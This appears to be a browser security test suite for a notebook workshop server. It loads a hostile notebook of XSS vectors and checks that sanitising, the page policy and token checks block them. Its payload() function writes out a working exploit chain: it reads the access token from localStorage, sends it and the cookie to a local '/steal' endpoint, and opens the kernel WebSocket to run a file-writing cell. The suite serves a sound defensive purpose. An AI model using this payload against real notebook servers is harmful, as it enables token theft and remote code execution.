/**
 * A hostile notebook in the real browser (found by test-support/browser.ts, through playwright-core). `fixtures/hostile.ipynb`
 * holds every way a notebook could try to run script in the workshop's page: markdown raw HTML
 * (`<img onerror>`, `<svg onload>`, `<iframe srcdoc>`, `javascript:` links, `<form>`,
 * `<meta http-equiv="refresh">`, `<script>`, `<object>`, `<embed>`, `<base>`, mXSS), committed
 * `text/html`, `image/svg+xml`, `application/javascript` and `text/markdown` outputs, a raw
 * `text/html` cell, and a cell whose fresh outputs carry the same. Each payload would read the
 * token, open the workshop's WebSocket and run the victim cell, which writes a marker file, and
 * would tell a second local server what it found.
 *
 * What must hold: nothing runs (no payload, no dialog), the kernel never executes a cell the
 * learner did not run (the marker file is never written; the learner's own run is execution 1),
 * the second server is never contacted by the page, and what it does receive when the learner
 * visits it (the page cookie) opens no kernel socket. The lesson's own HTML (table, styled text,
 * progress bars, a display updated in place) still renders.
 */
import { existsSync } from 'node:fs';
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect } from 'vitest';
import { startWorkshop, type Workshop } from './index.js';
import { browserTest as test, launchChromium, type TestBrowser } from './test-support/chromium.js';
import { fixture, testOutput } from './test-support/fixtures.js';
import { fetchRaw, handshake, socketProtocols } from './test-support/http.js';

/** A kernel start takes a few seconds, more on a loaded machine. */
const KERNEL_MS = 45_000;
/** How long the page is watched for a payload (the exploit fired 3 s after load). */
const WATCH_MS = 4000;

/** What the second local server saw. */
interface Seen {
  readonly method: string;
  readonly url: string;
  readonly headers: IncomingHttpHeaders;
}

let workshop: Workshop;
let browser: TestBrowser;
let page: Page;
let leak: Server;
let leakOrigin: string;
const seen: Seen[] = [];
const dialogs: string[] = [];
const pageErrors: string[] = [];
const dir = join(testOutput, 'hostile');
const marker = join(dir, 'marker.txt');

/** The script every vector carries: take the token, run the victim cell over the socket, tell the second server. */
function payload(): string {
  const run = { type: 'run', mode: 'cell', cells: [{ index: 1, source: `require('node:fs').writeFileSync(${JSON.stringify(marker)}, 'pwned')` }] };
  return [
    "top.__pwned=(top.__pwned||0)+1;top.document.title='pwned'",
    "var t=top.localStorage.getItem('scalable-ts.workshop.token')",
    `new Image().src='${leakOrigin}/steal?'+encodeURIComponent(t+' '+top.document.cookie)`,
    "var w=new top.WebSocket('ws://'+top.location.host+'/ws?notebook=hostile',['scalable-ts.workshop.v1','scalable-ts.workshop.token.'+t])",
    `w.onopen=function(){w.send(atob('${Buffer.from(JSON.stringify(run)).toString('base64')}'))}`,
  ].join(';');
}

beforeAll(async () => {
  leak = createServer((request, response) => {
    seen.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers });
    response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end('<p>a dev server</p>');
  });
  await new Promise<void>((resolve) => leak.listen(0, '127.0.0.1', resolve));
  leakOrigin = `http://127.0.0.1:${(leak.address() as AddressInfo).port}`;

  await mkdir(dir, { recursive: true });
  await rm(marker, { force: true });
  const template = await readFile(fixture('hostile.ipynb'), 'utf8');
  const path = join(dir, 'hostile.ipynb');
  await writeFile(path, template.replaceAll('__PAYLOAD__', payload()).replaceAll('__LEAK__', leakOrigin));
  // A queued run goes on after its page left (a payload's meta refresh navigates away): keep the session.
  workshop = await startWorkshop({ notebooks: [path], lingerMs: 60_000 });

  browser = await launchChromium();
  page = browser.context.pages()[0] ?? (await browser.context.newPage());
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => pageErrors.push(error.message));
});

afterAll(async () => {
  await browser?.close();
  await workshop?.close();
  await new Promise((resolve) => leak?.close(resolve));
});

const cell = (index: number) => page.locator(`.cell[data-cell-index="${index}"]`);

/** The computed `property` of the first element matching `selector`, as the browser draws it. */
const computed = (selector: string, property: string): Promise<unknown> =>
  page.evaluate(`getComputedStyle(document.querySelector(${JSON.stringify(selector)}))[${JSON.stringify(property)}]`);

/** The drawn width of the first image matching `selector` (0 until it has loaded and decoded). */
const drawnWidth = (selector: string): Promise<unknown> =>
  page.evaluate(`(() => { const img = document.querySelector(${JSON.stringify(selector)}); return img.complete ? img.naturalWidth : 0; })()`);

/** Nothing of any payload happened: no flag, no title change, no dialog, no marker, no contact. */
async function expectNothingRan(): Promise<void> {
  expect(await page.evaluate('window.__pwned')).toBeUndefined();
  expect(await page.title()).not.toBe('pwned');
  expect(dialogs).toEqual([]);
  expect(existsSync(marker)).toBe(false);
  expect(seen).toEqual([]);
}

test('opening the hostile notebook runs nothing of it, and the kernel executes nothing', async () => {
  await page.goto(workshop.url);
  await page.goto(`${workshop.origin}/nb/hostile`);
  await expect.poll(() => page.locator('.kernel-state').getAttribute('data-state'), { timeout: KERNEL_MS }).toBe('idle');
  await page.waitForTimeout(WATCH_MS);
  // The links and buttons a learner might click: sanitised to nothing that acts.
  await page.locator('#vector-js-link').click();
  expect(await page.locator('#vector-form-button, form, iframe, object, embed, script:not([src]), base, meta[http-equiv="refresh"]').count()).toBe(0);
  expect(await page.locator('[onerror], [onload], [srcdoc], [href^="javascript:"]').count()).toBe(0);
  await page.waitForTimeout(500);
  await expectNothingRan();
  expect(page.url()).toBe(`${workshop.origin}/nb/hostile`); // no meta refresh took the page away
  expect(await cell(1).locator('.prompt-in').textContent()).toBe('In [ ]:');
  expect(await cell(3).locator('.outputs').textContent()).toContain('Output not shown (application/javascript).');
});

test('the lesson HTML still renders: table, styled text, progress, details, SVG and HTML outputs', async () => {
  expect(await page.locator('#legit-table tbody tr').count()).toBe(2);
  expect(await computed('#legit-table th:nth-child(2)', 'textAlign')).toBe('right');
  expect(await computed('#legit-styled', 'color')).toBe('rgb(176, 0, 32)');
  expect(await page.locator('#legit-progress').getAttribute('value')).toBe('2');
  expect(await page.locator('#legit-details summary').textContent()).toBe('More');
  expect(await page.locator('#legit-html-output').textContent()).toBe('bold HTML output');
  expect(await page.locator('#legit-raw').textContent()).toBe('raw HTML cell');
  expect(await cell(3).locator('.output-markdown strong').textContent()).toBe('markdown output');
  await mkdir(join(testOutput, 'screenshots'), { recursive: true });
  const shot = join(testOutput, 'screenshots', 'hostile.png');
  await page.screenshot({ path: shot, fullPage: true });
  console.info(`screenshot: ${shot}`);
  // The SVG output is drawn, as an image (its script is not run).
  await expect.poll(() => drawnWidth('.cell[data-cell-index="3"] .output-image img[src^="data:image/svg+xml"]')).toBe(24);
});

test('fresh outputs of a cell the learner runs are sanitised too; a display updated in place still shows', async () => {
  await cell(5).locator('.cell-run').click();
  await expect.poll(() => cell(5).getAttribute('class'), { timeout: KERNEL_MS }).toContain('was-run');
  expect(await cell(5).locator('.prompt-in').textContent()).toBe('In [1]:'); // the only execution so far
  expect(await cell(5).locator('#fresh-html').textContent()).toBe('fresh HTML');
  expect(await cell(5).locator('#fresh-progress').getAttribute('value')).toBe('3');
  expect(await computed('.cell[data-cell-index="5"] .fresh-progress span', 'color')).toBe('rgb(34, 170, 119)');
  expect(await cell(5).locator('.output-image img[src^="data:image/svg+xml"]').count()).toBe(1);
  expect(await cell(5).locator('.outputs').textContent()).toContain('Output not shown (text/javascript).'); // tslab's type for display.javascript
  expect(await cell(5).locator('[onerror], [onload], script, svg').count()).toBe(0);
  await page.waitForTimeout(WATCH_MS / 2);
  await expectNothingRan();
  expect(await cell(1).locator('.prompt-in').textContent()).toBe('In [ ]:');
});

test('behind the sanitiser, the page policy blocks inline script and handlers on its own', async () => {
  await page.evaluate(`(() => {
    const box = document.createElement('div');
    box.innerHTML = '<img src="x" onerror="window.__cspPwned = 1">';
    document.body.append(box);
    const script = document.createElement('script');
    script.textContent = 'window.__cspPwned = 2';
    document.body.append(script);
  })()`);
  await page.waitForTimeout(500);
  expect(await page.evaluate('window.__cspPwned')).toBeUndefined();
});

test('a second local server the learner visits gets the page cookie, which opens no kernel socket and holds no token', async () => {
  await page.goto(`${leakOrigin}/visit`);
  const visit = seen.find((request) => request.url === '/visit');
  expect(visit?.headers.cookie).toContain(workshop.pageCookie); // browsers send cookies to every port
  expect(JSON.stringify(seen)).not.toContain(workshop.token);
  const cookie = visit?.headers.cookie ?? '';
  const forged = { host: `127.0.0.1:${workshop.port}`, origin: workshop.origin, cookie };
  const socket = '/ws?notebook=hostile';
  // Replayed as a page of the workshop would send it, then with every value it saw as the token.
  expect((await handshake(workshop, socket, forged)).status).toBe(401);
  const values = Object.values(visit?.headers ?? {}).flatMap((value) => (Array.isArray(value) ? value : [value ?? '']));
  const candidates = [...values, ...cookie.split(/[;=]\s*/)].filter((value) => /^[A-Za-z0-9_-]+$/.test(value));
  expect(candidates.length).toBeGreaterThan(0);
  for (const candidate of candidates) {
    const protocol = socketProtocols(workshop, candidate).join(', ');
    expect((await handshake(workshop, socket, { ...forged, 'sec-websocket-protocol': protocol })).status, candidate).toBe(401);
  }
  // What the cookie does open, the pages, never carries the token either.
  const replayed = await fetchRaw(workshop, '/nb/hostile', { host: forged.host, cookie });
  expect(replayed.status).toBe(200);
  expect(replayed.body).not.toContain(workshop.token);
  expect(existsSync(marker)).toBe(false);
});

test('a page of the workshop without the token (storage cleared) opens no socket and says how to get one', async () => {
  await page.goto(`${workshop.origin}/nb/hostile`);
  await page.evaluate('localStorage.clear()');
  await page.reload();
  await expect.poll(() => page.locator('.notice').textContent()).toContain('This page has no access token: open the URL that `npm start` printed');
  expect(await page.locator('.kernel-state').getAttribute('data-state')).toBe('offline');
  expect(existsSync(marker)).toBe(false);
});
